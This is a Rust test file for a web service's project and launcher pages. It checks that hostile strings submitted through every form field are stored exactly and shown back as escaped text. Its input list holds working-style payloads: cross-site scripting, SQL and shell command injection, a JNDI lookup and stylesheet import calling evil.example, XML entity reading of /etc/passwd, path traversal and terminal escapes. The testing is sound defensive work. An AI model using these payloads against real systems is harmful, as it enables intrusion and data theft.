//! G1: strings that programs choke on, through every field that people write: kept to the letter, shown as text.

use super::*;
use crate::service::{Identity, LauncherPatch, ProjectPatch};

/// What a string may be put between, to get out of where it stands.
const AROUND: [(&str, &str); 13] = [
    ("", ""),
    ("\"", "\""),
    ("'", "'"),
    ("`", "`"),
    ("\">", "<\""),
    ("'>", "<'"),
    ("</textarea>", ""),
    ("</title>", "</title>"),
    ("<!--", "-->"),
    ("&quot;", "&#x27;"),
    ("]]>", "<![CDATA["),
    ("\u{202e}", "\u{2066}"),
    ("{{", "}}"),
];

/// As the lists that go round have them: words that mean something to a language, numbers that are none, letters that are
/// wide, narrow, right to left or none at all, markup, queries, commands, paths, templates, terminals.
const CORE: [&str; 42] = [
    "undefined null NULL nil NaN true",
    "1/0 1E+02 -1 0x0 0xffffffffffffffff 1,000.00",
    "../../../../etc/passwd",
    "C:\\Windows\\con.txt NUL AUX",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<body onpageshow=alert(1)>",
    "<style>@import'http://evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=a>",
    "<math><mtext></form><mglyph><style></math><img src onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "1; DROP TABLE projects --",
    "1' OR '1'='1",
    "' UNION SELECT hash FROM tokens --",
    "%s %d %n %x %.9999f",
    "$(touch /tmp/pwned) ; `id` | cat & sleep 9",
    "${jndi:ldap://evil.example/a}",
    "#{7*7} ${7*7} <%= 7*7 %> {% debug %}",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
    "() { :; }; echo shellshock",
    "\u{feff}bom \u{200b}zero\u{200d}width\u{2060} \u{00ad}soft",
    "\u{202a}\u{202e}right to left\u{202c}",
    "\u{0627}\u{0644}\u{0639}\u{0631}\u{0628}\u{064a}\u{0629} \u{05e2}\u{05d1}\u{05e8}\u{05d9}\u{05ea}",
    "田中さんにあげて下さい 部落格 사회과학원",
    "Z\u{0351}\u{036b}\u{0343}a\u{0342}\u{0349}l\u{033b}\u{0321}g\u{0331}\u{0329}o\u{034d}",
    "👩🏽‍🔬👨‍👩‍👧‍👦🏳️‍🌈🇨🇭 ❤️ 0️⃣",
    "ﬁ ｆｕｌｌ Ⅷ ﷽ Å Å ß İ ı",
    "𝕋𝕙𝕖 𝖖𝖚𝖎𝖈𝖐 𝓫𝓻𝓸𝔀𝓷 \u{10ffff} \u{1f}",
    "\u{1b}]52;c;aGk=\u{7}\u{1b}[31mred\u{1b}[0m",
    "\u{0}nul \u{8}backspace \u{7f}delete \u{85}next",
    "tab\there",
    "line\none\r\ntwo\u{2028}three",
    "javascript:alert(1) data:text/html,<script>alert(1)</script>",
    "onmouseover=alert(1) style=x:expression(alert(1)) x=",
    "Robert'); <!-- --!> <![if IE]>",
];

fn naughty() -> Vec<String> {
    let around = AROUND
        .iter()
        .flat_map(|(before, after)| CORE.iter().map(move |core| format!("{before}{core}{after}")));
    around.collect()
}

/// What may stand in a page of a string: nothing that it could have become.
#[track_caller]
fn is_text(page: &Answer, text: &str) {
    assert!(!page.status.is_server_error(), "{text:?}: {}", page.text);
    if text.contains(['<', '"', '\'']) {
        page.hides(text);
    }
    assert_eq!(page.text.matches("<script").count(), 1, "{text:?}");
    for tag in [
        "<img src=x",
        "<svg/",
        "<iframe",
        "<base",
        "<math",
        "<IMG",
        "<body o",
        "href=\"javascript:",
        "<form action=//",
    ] {
        page.hides(tag);
    }
}

#[tokio::test]
async fn what_people_write_is_kept_to_the_letter_and_shown_as_text() {
    let platform = Platform::new().await;
    let ada = platform.browser_of("ada").await;
    let (project, launcher) = platform.with_launcher(&ada, "public").await;
    let who = Identity::User(platform.service.user_by_name(&"ada".parse().unwrap()).await.unwrap());
    let found =
        platform.service.projects(&who, &Default::default(), crate::model::Page::FIRST).await.unwrap();
    let id = found.items[0].id;
    let launcher_id =
        platform.service.launcher_views(&who, id, crate::model::Page::FIRST).await.unwrap().items[0]
            .launcher
            .id;
    let all = naughty();
    assert!(all.len() >= 515, "{}", all.len());
    let (mut names, mut others) = (0, 0);
    for text in &all {
        // A name is one line of 99 characters; a description may be anything but NUL, and so may a value.
        let patch = ProjectPatch { name: Some(text.clone()), ..ProjectPatch::default() };
        let named = platform.service.update_project(&who, id, Some("*"), patch).await;
        let fits = text.trim().chars().count() <= 99 && !text.trim().chars().any(char::is_control);
        match named {
            Ok(changed) => {
                assert_eq!(changed.name, text.trim());
                names += 1;
            }
            Err(crate::service::Error::Invalid { .. }) if !fits => {}
            Err(other) => panic!("{text:?}: {other}"),
        }
        let patch = ProjectPatch { description: Some(Some(text.clone())), ..ProjectPatch::default() };
        let described = platform.service.update_project(&who, id, Some("*"), patch).await;
        let variable = crate::model::EnvVariable { name: "X".to_owned(), value: text.clone() };
        let patch = LauncherPatch {
            name: fits.then(|| text.clone()),
            description: Some(Some(text.clone())),
            variables: Some(vec![variable.clone()]),
            ..LauncherPatch::default()
        };
        let launched = platform.service.update_launcher(&who, launcher_id, patch).await;
        assert_eq!(
            (described.is_ok(), launched.is_ok()),
            (!text.contains('\0'), !text.contains('\0')),
            "{text:?}"
        );
        if text.contains('\0') {
            continue;
        }
        others += 1;
        let kept = platform.service.project(&who, id).await.unwrap();
        assert_eq!(kept.description.as_deref(), Some(text.as_str()));
        let (kept, _) = platform.service.launcher(&who, launcher_id).await.unwrap();
        assert_eq!((kept.description.as_deref(), &kept.variables), (Some(text.as_str()), &vec![variable]));
        for path in [&project, &format!("{project}/settings"), &format!("{launcher}/edit")] {
            is_text(&ada.get(&platform, path).await, text);
        }
    }
    assert!(names > 300 && others > 450, "{names} {others}");
}

#[tokio::test]
async fn a_form_that_is_filled_with_them_is_given_back_as_text() {
    let platform = Platform::new().await;
    let ada = platform.browser_of("ada").await;
    let (project, launcher) = platform.with_launcher(&ada, "public").await;
    // Each class once in each kind of field; the combinations are in the test above.
    for text in CORE {
        let form = [
            ("name", text),
            ("path", text),
            ("slug", text),
            ("description", text),
            ("repositories", text),
            ("username", text),
            ("email", text),
            ("role", "viewer"),
            ("source", "code"),
            ("repository", text),
            ("revision", text),
            ("directory", text),
            ("command", text),
            ("port", text),
            ("variable_name", text),
            ("variable_value", text),
            ("resource_class", "1"),
            ("open_to", text),
            ("users", text),
            ("value", text),
            ("next", text),
        ];
        for path in [
            "/projects/new",
            "/groups",
            "/settings/tokens",
            "/sign-in",
            &format!("{project}/settings"),
            &format!("{project}/launchers/new"),
            &format!("{project}/credentials"),
            &format!("{launcher}/edit"),
            &format!("{launcher}/access"),
            &format!("{launcher}/links"),
            &format!("{launcher}/secrets"),
        ] {
            is_text_or_elsewhere(&ada.post(&platform, path, &form).await, text);
        }
    }
}

#[track_caller]
fn is_text_or_elsewhere(page: &Answer, text: &str) {
    if page.status == StatusCode::SEE_OTHER {
        let to = page.location.as_deref().unwrap_or_default();
        assert!(
            to.starts_with('/') && !to.starts_with("//") && !to.starts_with("/\\"),
            "{text:?} leads to {to}"
        );
    } else {
        is_text(page, text);
    }
}
